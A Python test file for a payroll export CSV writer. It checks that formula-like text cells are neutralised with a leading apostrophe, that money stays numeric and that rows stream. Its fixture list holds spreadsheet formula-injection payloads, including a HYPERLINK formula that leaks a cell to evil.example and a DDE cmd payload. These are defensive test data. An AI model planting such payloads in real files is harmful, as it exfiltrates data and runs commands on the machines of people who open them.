"""The export CSV writer: hostile names go in as text, money stays numbers, rows stream."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workforce_adapters.csv_files import Cell, write_csv
from workforce_core.rules.csv_cells import FORMULA_STARTS

D = Decimal
HEADER = ["employee_id", "worker_name", "element", "hours", "pay", "week_start"]
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your payslip")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-12.50",  # text that looks like money is still text
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=1+1,"quoted", and a comma',
    "=line\nbreak",
]


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _write(rows: list[list[Cell]], header: list[str] = HEADER) -> bytes:
    out = io.BytesIO()
    write_csv(out, header, rows)
    return out.getvalue()


def test_hostile_names_round_trip_as_text_and_no_cell_starts_with_a_formula_character() -> None:
    rows: list[list[Cell]] = [
        [f"E{n}", name, "regular", D("7.50"), D("-12.50"), date(2026, 11, 16)] for n, name in enumerate(HOSTILE_NAMES)
    ]
    header, *back = _read(_write(rows))
    assert header == HEADER
    assert len(back) == len(HOSTILE_NAMES)
    for row, name in zip(back, HOSTILE_NAMES, strict=True):
        assert row[1] == "'" + name  # every hostile text cell starts with ', the rest of it unchanged
        assert row[4] == "-12.50"  # a negative amount stays a number
        assert Decimal(row[4]) == D("-12.50")
        assert row[5] == "2026-11-16"
        for position, value in enumerate(row):
            if position != 4:
                assert not value.startswith(FORMULA_STARTS), value


def test_money_is_written_in_plain_digits_and_text_that_looks_like_a_sum_is_neutralised() -> None:
    rows: list[list[Cell]] = [
        ["E1", "-2+3", "overtime", 3, D("-12.50"), None],
        ["E2", "Ann", "night", -3, D("1E+2"), None],
    ]
    _, first, second = _read(_write(rows))
    assert first == ["E1", "'-2+3", "overtime", "3", "-12.50", ""]
    assert second == ["E2", "Ann", "night", "-3", "100", ""]  # never an exponent a spreadsheet would misread


def test_the_file_is_utf8_without_a_byte_order_mark_with_crlf_line_ends_and_a_header_row() -> None:
    data = _write([["E1", "Zoë Ødegård", "regular", D("8"), D("96.00"), date(2026, 11, 16)]])
    header = b"employee_id,worker_name,element,hours,pay,week_start\r\n"
    assert data == header + "E1,Zoë Ødegård,regular,8,96.00,2026-11-16\r\n".encode()


def test_a_hostile_header_is_neutralised_too() -> None:
    header, _ = _read(_write([["x", "y"]], header=["=name", "pay"]))
    assert header == ["'=name", "pay"]


@pytest.mark.parametrize("value", [12.5, True, datetime(2026, 11, 16, tzinfo=UTC), D("NaN"), object()])
def test_money_as_a_float_and_other_values_without_one_meaning_are_refused(value: object) -> None:
    with pytest.raises((TypeError, ValueError)):
        _write([[value]], header=["pay"])  # type: ignore[list-item]


def test_a_row_with_the_wrong_number_of_cells_is_refused() -> None:
    with pytest.raises(ValueError, match="row 2 has 1 cells"):
        _write([["a", "b"], ["c"]], header=["one", "two"])


def test_the_callers_file_stays_open_and_the_row_count_is_returned() -> None:
    out = io.BytesIO()
    assert write_csv(out, ["name"], iter([["a"], ["b"], ["c"]])) == 3
    assert not out.closed
    out.write(b"more")


def test_rows_stream_from_an_iterator_without_being_collected_first() -> None:
    out = io.BytesIO()
    seen_written: list[int] = []

    def rows() -> Iterator[list[Cell]]:
        for n in range(20_000):
            if n == 10_000:
                seen_written.append(len(out.getvalue()))  # bytes already in the file half-way through
            yield [f"worker {n}", D(n)]

    assert write_csv(out, ["name", "pay"], rows()) == 20_000
    assert seen_written[0] > 100_000
    assert len(_read(out.getvalue())) == 20_001


@given(st.text(st.characters(blacklist_categories=("Cs",))))
def test_any_text_reads_back_as_itself_or_quoted_and_never_as_a_formula(name: str) -> None:
    _, (back,) = _read(_write([[name]], header=["name"]))
    assert back == (("'" + name) if name.startswith(FORMULA_STARTS) else name)
    assert not back.startswith(FORMULA_STARTS)


def test_a_lone_surrogate_is_written_as_a_question_mark_instead_of_failing_the_file() -> None:
    _, (back,) = _read(_write([["Ann\ud800"]], header=["name"]))
    assert back == "Ann?"
